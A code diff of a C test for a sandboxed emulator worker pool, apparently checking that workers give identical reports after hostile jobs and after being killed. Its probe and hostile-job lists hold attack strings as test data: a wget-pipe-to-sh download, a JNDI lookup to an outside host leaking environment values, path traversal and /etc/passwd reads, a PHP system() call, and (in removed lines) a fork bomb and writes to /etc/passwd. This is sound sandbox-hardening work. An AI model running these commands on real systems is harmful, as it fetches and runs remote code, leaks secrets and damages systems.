@@ -1,53 +1,80 @@
 /* SPDX-License-Identifier: GPL-2.0-or-later */
 /*
  * A job after a hostile one gives the same report, byte for byte, as in a fresh worker; a worker killed from outside is
- * replaced by one that gives it too. With the real konseki-emu.
- * usage: again KONSEKI-EMU CONFIG
+ * replaced by one that gives it too. With the real konseki-emu: hostile jobs and probes in turn.
+ * usage: again KONSEKI-EMU CONFIG [ALTERNATIONS [SEED]]
  */
 #include "control/queue/pool.h"
+#include "tests/native/hostile.h"
 
 #include <signal.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <time.h>
+#include <unistd.h>
 
-enum { PROBE_ID = 1, HOSTILE_ID = 2 };
+enum { PROBE_ID = 1, HOSTILE_ID = 2, PATIENCE_S = 90, SHORT = 150, SLOWEST = 5 };
 
-static const char *const probes[] = {
-	"id; echo $$ $PPID $RANDOM; date; echo x > /tmp/probe; ls -la /tmp /; env; cat /etc/passwd",
-	"wget http://203.0.113.9/x -O- | sh; ping -c1 198.51.100.7; sleep 3; echo slept",
-	"for i in 1 2 3 4; do (echo $i | md5sum) & done; wait; head -c 8 /dev/urandom | base64",
+static const struct { enum language language; const char *code; } probes[] = {
+	{ LANGUAGE_SHELL, "id; echo $$ $PPID $RANDOM; date; echo x > /tmp/probe; ls -la /tmp /; env; cat /etc/passwd" },
+	{ LANGUAGE_SHELL, "wget http://203.0.113.9/x -O- | sh; ping -c1 198.51.100.7; sleep 3; echo slept" },
+	{ LANGUAGE_SHELL, "for i in 1 2 3 4; do (echo $i | md5sum) & done; wait; head -c 8 /dev/urandom | base64" },
+	{ LANGUAGE_SHELL, "awk 'BEGIN { print sqrt(2), sin(1), exp(1), 1/3; srand(); print rand() }'; ulimit -a; trap; umask; cat /proc/self/status" },
+	{ LANGUAGE_JNDI, "${jndi:ldap://203.0.113.9/${env:HOME}/${sys:user.name}}" },
+	{ LANGUAGE_PATH, "../../../../etc/passwd" },
+	{ LANGUAGE_PHP, "<?php echo md5('a'), PHP_OS, getcwd(), memory_get_usage(), rand(); print_r($_SERVER); system('id; ls -la /tmp');" },
+	{ LANGUAGE_PERL, "print 6*7, $$, join(',', sort keys %ENV), rand(), `ls /tmp`, sprintf('%.20g', 1/3)" },
+	{ LANGUAGE_PYTHON, "import os,sys\nprint(os.getpid(), os.listdir('/tmp'), sys.path, hash('a'), 1/3)" },
+	{ LANGUAGE_ELF, NULL }, /* what a processor was left as: probe_program */
+};
+static const char *const profiles[] = { "busybox", "container", "debian", "rhel" };
+enum { PROBES = COUNT_OF(probes), PROFILES = COUNT_OF(profiles) };
+
+/*
+ * push flags, mxcsr, the float control and status words, and what a division leaves; write them, with the memory
+ * behind the program, to 1; exit.
+ */
+static const uint8_t probe_program[] = {
+	0x9c, 0x48, 0x83, 0xec, 0x28, 0x0f, 0xae, 0x1c, 0x24, 0xd9, 0x7c, 0x24, 0x04, 0xdd, 0x7c, 0x24, 0x06, 0xd9, 0xe8, 0xd9, 0xeb, 0xde, 0xf9,
+	0xdb, 0x7c, 0x24, 0x08, 0x0f, 0x11, 0x44, 0x24, 0x12, 0x8c, 0xd8, 0x66, 0x89, 0x44, 0x24, 0x22, 0x8c, 0xe0, 0x66, 0x89, 0x44, 0x24, 0x24,
+	0xb8, 1, 0, 0, 0, 0xbf, 1, 0, 0, 0, 0x48, 0x89, 0xe6, 0xba, 0x30, 0, 0, 0, 0x0f, 0x05, /* write(1, rsp, 48) */
+	0xb8, 1, 0, 0, 0, 0xbe, 0, 0x80, 0x40, 0, 0xba, 0, 2, 0, 0, 0x0f, 0x05,                /* write(1, 0x408000, 512) */
+	0xb8, 231, 0, 0, 0, 0x31, 0xff, 0x0f, 0x05,
 };
 
-static const char *const hostiles[] = {
-	"echo evil > /tmp/probe; echo evil >> /etc/passwd; cd /; umask 777; export PATH=/tmp; kill -9 $$",
-	"trap '' 1 2 3 15; mkdir -p /tmp/a/b/c; ln -s / /tmp/root; mkfifo /tmp/f; sleep 1000",
-	"while :; do :; done",
-	"f() { f | f & }; f",
-	"yes > /tmp/full",
-	"x=x; while :; do x=$x$x; done",
-	"i=0; while [ $i -lt 100 ]; do (sleep 9 &) ; i=$((i+1)); done; kill -9 -1",
-	"echo | (exec 3<>/tmp/z; while echo zzzzzzzzzzzzzzzz >&3; do :; done)",
-	"yes | cat | cat | cat",
-	"x=x; while :; do nc 203.0.113.9 99 & done", "exec 200>/tmp/x 1000>/tmp/y; ln /etc/passwd /tmp/z",
-	"kill -SEGV $$", "kill -STOP $$", "exec /etc/passwd", "exec 0<&- 1>&- 2>&-; id",
-	"printf '\\177ELF\\002\\001\\001\\000garbage' > /tmp/e; chmod 755 /tmp/e; /tmp/e; echo $?",
-};
+static struct {
+	struct pool *pool;
+	struct bytes want[PROBES][PROFILES]; /* what a fresh worker answers */
+	unsigned stopped[STOPPED_COUNT];
+	struct { double ms; char name[128]; } slow[SLOWEST];
+	uint64_t probes, hostiles;
+} all;
 
-static int ask(struct pool *pool, const char *code, uint64_t id, struct answer *ret)
+static double now_ms(void)
 {
-	const struct job j = { .id = id, .language = LANGUAGE_SHELL, .code = bytes_text(code), .runs = true, .seed = 99 };
+	struct timespec t;
 
-	return pool_ask(pool, &j, UINT64_C(90000000000), ret);
+	clock_gettime(CLOCK_MONOTONIC, &t);
+	return (double)t.tv_sec * 1e3 + (double)t.tv_nsec / 1e6;
+}
+
+static int ask(enum language language, struct bytes code, const char *profile, uint64_t id, struct answer *ret)
+{
+	const struct job j = { .id = id, .language = language, .code = code, .profile = bytes_text(profile), .runs = true,
+		.seed = 99 };
+
+	return pool_ask(all.pool, &j, UINT64_C(1000000000) * PATIENCE_S, ret);
 }
 
 /* The report without the times of the host, as bytes; the caller frees. */
-static uint8_t *told(const struct report *r, struct bytes *ret)
+static struct bytes told(const struct report *r)
 {
 	static struct run runs[REPORT_RUNS_MAX];
 	uint8_t *raw = malloc(REPORT_MAX);
 	struct sink s = sink_over(raw, raw != NULL ? REPORT_MAX : 0);
 	struct report bare = *r;
+	struct bytes ret = { 0 };
 
 	for (uint32_t i = 0; i < r->runs_count; i++) {
 		runs[i] = r->runs[i];
@@ -56,123 +83,175 @@ static uint8_t *told(const struct report *r, struct bytes *ret)
 	bare.host_ns = 0;
 	bare.runs = runs;
 	report_encode(&s, &bare);
-	if (sink_done(&s, ret) < 0) {
+	if (sink_done(&s, &ret) < 0) {
 		fprintf(stderr, "a report is too long\n");
 		exit(3);
 	}
-	return raw;
+	return ret;
 }
 
-/* Asks the probe and compares with want (left == 0: becomes it). 0: the same. */
-static int probe(struct pool *pool, unsigned which, struct bytes *want, const char *after)
+static void bytes_drop(struct bytes b)
 {
-	struct bytes got = { 0 };
-	struct answer a;
-	uint8_t *raw;
-	int r = ask(pool, probes[which], PROBE_ID, &a);
+	free((uint8_t *)(uintptr_t)b.at);
+}
 
-	if (r < 0) {
-		fprintf(stderr, "no answer after: %s: %s\n", after, strerror(-r));
+static int ask_probe(unsigned which, unsigned profile, struct answer *ret)
+{
+	static struct hostile program;
+
+	if (probes[which].code != NULL)
+		return ask(probes[which].language, bytes_text(probes[which].code), profiles[profile], PROBE_ID, ret);
+	if (program.len == 0)
+		hostile_wrap("probe", bytes_of(probe_program, sizeof(probe_program)), &program);
+	return ask(LANGUAGE_ELF, bytes_of(program.code, program.len), profiles[profile], PROBE_ID, ret);
+}
+
+/* Interpreters are slow to warm up in a worker that is new: their turn comes less often. */
+static unsigned likely_probe(uint64_t *state)
+{
+	unsigned which = (unsigned)chance_below(state, PROBES);
+
+	return probes[which].language == LANGUAGE_PYTHON || probes[which].language == LANGUAGE_PHP || probes[which].language == LANGUAGE_PERL ?
+	    (unsigned)chance_below(state, PROBES) : which;
+}
+
+/* 1: the answer differs from a fresh worker's, or there is none. */
+static int probe(unsigned which, unsigned profile, const char *after)
+{
+	struct bytes *want = &all.want[which][profile], got;
+	struct answer a;
+	int differs;
+
+	if (ask_probe(which, profile, &a) < 0) {
+		fprintf(stderr, "no answer after: %s\n", after);
 		return 1;
 	}
-	raw = told(a.report, &got);
-	r = a.report->stopped_by != STOPPED_EXIT || (want->left > 0 && !bytes_equal(got, *want));
-	if (r != 0)
-		fprintf(stderr, "DIFFERS (%s) after: %s\n  probe: %s\n", stopped_by_name(a.report->stopped_by), after,
-		        probes[which]);
+	got = told(a.report);
+	/* what a profile has no program for is told alike too */
+	differs = a.report->stopped_by == STOPPED_DIED || a.report->stopped_by == STOPPED_WATCHDOG ||
+	    (want->left > 0 && !bytes_equal(got, *want));
+	if (differs)
+		fprintf(stderr, "DIFFERS (%s): probe %u in %s, after: %s\n", stopped_by_name(a.report->stopped_by), which,
+		        profiles[profile], after);
 	if (want->left == 0)
 		*want = got;
 	else
-		free(raw);
+		bytes_drop(got);
 	answer_free(&a);
-	return r;
+	all.probes++;
+	return differs;
 }
 
-/* Code alone, as a program: what the translator dies of, what reaches for the machine itself, what writes over itself. */
-static const struct { const char *name; uint8_t code[16]; } programs[] = {
-	{ "call through a register's far form", { 0xff, 0xd8 } }, { "jump through one", { 0xff, 0xe8 } },
-	{ "lock cmp", { 0xf0, 0x38 } }, { "lock cmps", { 0xf0, 0xa6 } }, { "lgdt", { 0x0f, 0x01, 0x10 } },
-	{ "mov to cr3", { 0x0f, 0x22, 0xd8 } }, { "mov to cr4", { 0x31, 0xc0, 0x0f, 0x22, 0xe0 } },
-	{ "segments", { 0x66, 0xb8, 0x23, 0, 0x8e, 0xd8, 0x8e, 0xc0, 0x8e, 0xe0, 0x8e, 0xe8, 0xeb, 0xfe } },
-	{ "flags", { 0x9c, 0x48, 0xc7, 0x04, 0x24, 0, 0x47, 0x7f, 0, 0x9d, 0xeb, 0xfe } },
-	{ "sysret", { 0x48, 0x0f, 0x07 } }, { "a jump to itself", { 0xeb, 0xfe } },
-};
-
-static struct bytes program_of(const uint8_t code[16], uint8_t raw[136])
+/* Ends the idle worker; the zygote puts another in its place. */
+static int replace(void)
 {
-	static const uint8_t head[120] = {
-		0x7f, 'E', 'L', 'F', 2, 1, 1, [16] = 2, [18] = 62, [20] = 1, [24] = 0x78, [26] = 0x40, [32] = 64, [52] = 64,
-		[54] = 56, [56] = 1, [64] = 1, [68] = 7, [82] = 0x40, [90] = 0x40, [96] = 136, [104] = 136, [113] = 0x10,
-	};
+	pid_t pid = pool_worker_pid(all.pool, 0);
 
-	memcpy(raw, head, sizeof(head));
-	memcpy(raw + sizeof(head), code, 16);
-	return bytes_of(raw, 136);
+	kill(pid, SIGKILL);
+	for (unsigned tries = 0; tries < 10000; tries++) {
+		if (pool_step(all.pool, 0) < 0)
+			return 1;
+		if (pool_worker_pid(all.pool, 0) != pid)
+			return 0;
+		usleep(1000);
+	}
+	return 1;
 }
 
-static int hostile_program(struct pool *pool, unsigned which)
+/* Each probe in a worker that served nobody before. */
+static int learn(void)
 {
-	uint8_t raw[136];
-	const struct job j = { .id = HOSTILE_ID, .language = LANGUAGE_ELF, .code = program_of(programs[which].code, raw),
-		.runs = true, .seed = 99 };
+	int failures = 0;
+
+	for (unsigned i = 0; i < PROBES * PROFILES; i++)
+		failures += probe(i / PROFILES, i % PROFILES, "nothing") + replace();
+	return failures;
+}
+
+static void note_time(const char *name, double ms)
+{
+	for (unsigned i = 0; i < SLOWEST; i++) {
+		if (ms <= all.slow[i].ms)
+			continue;
+		memmove(&all.slow[i + 1], &all.slow[i], (SLOWEST - 1 - i) * sizeof(all.slow[0]));
+		all.slow[i].ms = ms;
+		snprintf(all.slow[i].name, sizeof(all.slow[i].name), "%s", name);
+		return;
+	}
+}
+
+static int hostile(const struct hostile *h, const char *profile)
+{
+	double began = now_ms();
 	struct answer a;
 
-	if (pool_ask(pool, &j, UINT64_C(90000000000), &a) < 0) {
-		fprintf(stderr, "no answer to: %s\n", programs[which].name);
+	if (ask(h->language, bytes_of(h->code, h->len), profile, HOSTILE_ID, &a) < 0) {
+		fprintf(stderr, "no answer to: %s\n", h->name);
 		return 1;
 	}
-	printf("%-14s %8.1f ms  %s\n", stopped_by_name(a.report->stopped_by), (double)a.report->host_ns / 1e6,
-	       programs[which].name);
+	all.stopped[a.report->stopped_by]++;
+	all.hostiles++;
+	note_time(h->name, now_ms() - began);
 	answer_free(&a);
 	return 0;
 }
 
-static int hostile(struct pool *pool, const char *code)
+/* Dies of a signal from outside, idle and, as its job may come too early for its end to be seen, at work. */
+static int killed(void)
 {
 	struct answer a;
-	int r = ask(pool, code, HOSTILE_ID, &a);
+	int failures = replace() + probe(0, 0, "SIGKILL from outside");
 
-	if (r < 0) {
-		fprintf(stderr, "no answer to: %s: %s\n", code, strerror(-r));
-		return 1;
-	}
-	printf("%-14s %8.1f ms  %s\n", stopped_by_name(a.report->stopped_by), (double)a.report->host_ns / 1e6, code);
+	kill(pool_worker_pid(all.pool, 0), SIGKILL);
+	if (ask_probe(0, 0, &a) < 0)
+		return failures + 1;
 	answer_free(&a);
-	return 0;
+	return failures + probe(0, 0, "SIGKILL at work");
+}
+
+static void show(unsigned long alternations)
+{
+	printf("%lu alternations, %llu hostile jobs, %llu probes\n", alternations, (unsigned long long)all.hostiles,
+	       (unsigned long long)all.probes);
+	for (unsigned i = 0; i < STOPPED_COUNT; i++) {
+		if (all.stopped[i] > 0)
+			printf("  %-14s %u\n", stopped_by_name((enum stopped_by)i), all.stopped[i]);
+	}
+	for (unsigned i = 0; i < SLOWEST; i++)
+		printf("  %8.0f ms  %s\n", all.slow[i].ms, all.slow[i].name);
 }
 
 int main(int argc, char **argv)
 {
-	struct bytes want[COUNT_OF(probes)] = { 0 };
-	struct pool *pool = NULL;
-	int failures = 0;
+	static struct hostile h;
+	unsigned long alternations = argc > 3 ? strtoul(argv[3], NULL, 10) : SHORT;
+	uint64_t state = argc > 4 ? strtoul(argv[4], NULL, 10) : 1;
+	int failures;
 
-	if (argc != 3)
+	if (argc < 3)
 		return 2;
-	for (unsigned p = 0; p < COUNT_OF(probes); p++) { /* each in a worker that served nobody before */
-		if (pool_start(argv[1], argv[2], 1, &pool) < 0)
-			return 3;
-		failures += probe(pool, p, &want[p], "nothing");
-		pool_close(pool);
-	}
-	if (pool_start(argv[1], argv[2], 1, &pool) < 0)
+	if (pool_start(argv[1], argv[2], 1, &all.pool) < 0)
 		return 3;
-	for (unsigned h = 0; h < COUNT_OF(hostiles) && failures == 0; h++) {
-		for (unsigned p = 0; p < COUNT_OF(probes); p++) {
-			failures += p == 0 ? hostile(pool, hostiles[h]) : 0;
-			failures += probe(pool, p, &want[p], hostiles[h]);
+	failures = learn();
+	for (unsigned long i = 0; i < alternations && failures < 20; i++) {
+		uint64_t begun = state;
+
+		hostile_make(&state, &h);
+		failures += hostile(&h, profiles[chance_below(&state, PROFILES)]);
+		if (probe(likely_probe(&state), (unsigned)chance_below(&state, PROFILES), h.name) != 0) {
+			fprintf(stderr, "  again alone: seed %llu\n", (unsigned long long)begun);
+			failures++;
+		}
+		if (i % 500 == 499) {
+			printf("%lu, %d failures\n", i + 1, failures);
+			fflush(stdout);
 		}
 	}
-	for (unsigned h = 0; h < COUNT_OF(programs) && failures == 0; h++) {
-		failures += hostile_program(pool, h);
-		failures += probe(pool, 0, &want[0], programs[h].name);
-	}
-	kill(pool_worker_pid(pool, 0), SIGKILL);
-	if (failures == 0 && hostile(pool, "id") == 0) /* this one may have met the death */
-		failures += probe(pool, 0, &want[0], "SIGKILL from outside");
-	pool_close(pool);
-	for (unsigned p = 0; p < COUNT_OF(probes); p++)
-		free((uint8_t *)(uintptr_t)want[p].at);
+	failures += killed();
+	pool_close(all.pool);
+	for (unsigned i = 0; i < PROBES * PROFILES; i++)
+		bytes_drop(all.want[i / PROFILES][i % PROFILES]);
+	show(alternations);
 	printf("%d failures\n", failures);
 	return failures > 0;
 }
